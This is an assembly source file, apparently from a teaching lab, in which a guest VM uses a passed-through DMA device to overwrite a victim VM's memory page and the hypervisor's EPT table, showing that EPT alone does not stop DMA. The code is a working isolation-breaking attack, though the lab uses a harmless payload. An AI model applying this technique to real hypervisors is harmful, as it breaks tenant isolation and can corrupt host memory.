; The attacker: a VM with a DMA device passed through to it.
;
; The guest cannot reach foreign memory with its own loads and stores: EPT stands in the way. But its device is a bus master,
; and the driver may write any number into the device's target register. This driver writes three:
;
;   OWN_PAGE     below this VM's size: an address of its own, translated like any other of its addresses
;   VICTIM_HPA   the host-physical address of the victim's page
;   TABLE_HPA    the host-physical address of the EPT table that translates the victim's first pages
;
; The last two lie above this VM's size, so they are no I/O address of this VM. The lab resolves DMA_BAR, VICTIM_HPA and
; TABLE_HPA at power-on; a real attacker would guess or scan.

bits 32
org 0x10_0000

%define OWN_PAGE    0x5000              ; the same number as the victim's guest address
%define PAYLOAD     0x30_0000
%define LENGTH      64
%define PATIENCE    15_000
%define COM1        0x3F8

; the device's registers (QEMU's edu) and its buffer
%define DMA_SOURCE      0x80
%define DMA_DESTINATION 0x88
%define DMA_COUNT       0x90
%define DMA_COMMAND     0x98
%define DEVICE_BUFFER   0x4_0000
%define START           1
%define TO_MEMORY       2

; transfer source, destination, command: programs the device and waits until it is done
%macro transfer 3
        mov     dword [ebx + DMA_SOURCE], %1
        mov     dword [ebx + DMA_SOURCE + 4], 0
        mov     dword [ebx + DMA_DESTINATION], %2
        mov     dword [ebx + DMA_DESTINATION + 4], 0
        mov     dword [ebx + DMA_COUNT], LENGTH
        mov     dword [ebx + DMA_COMMAND], %3
%%wait: test    dword [ebx + DMA_COMMAND], START
        jnz     %%wait
%endmacro

start:
        mov     ecx, PATIENCE           ; let the victim run for a while first
idle:   loop    idle

        mov     esi, message            ; the payload, at an address of our own
        mov     edi, PAYLOAD
        mov     ecx, LENGTH
        rep     movsb

        mov     ebx, DMA_BAR
        transfer PAYLOAD, DEVICE_BUFFER, START                  ; memory → device

        transfer DEVICE_BUFFER, OWN_PAGE, START | TO_MEMORY     ; a legal target
        transfer DEVICE_BUFFER, VICTIM_HPA, START | TO_MEMORY   ; the victim's page
        transfer DEVICE_BUFFER, TABLE_HPA, START | TO_MEMORY    ; the VMM's table

        mov     esi, done_text
        mov     edx, COM1
.next:  lodsb
        test    al, al
        jz      .done
        out     dx, al
        jmp     .next
.done:  cli
        hlt

message:        db 'THIS MEMORY NOW BELONGS TO THE ATTACKER. '
                times LENGTH - ($ - message) db '!'
done_text:      db 'three targets written', 10, 0
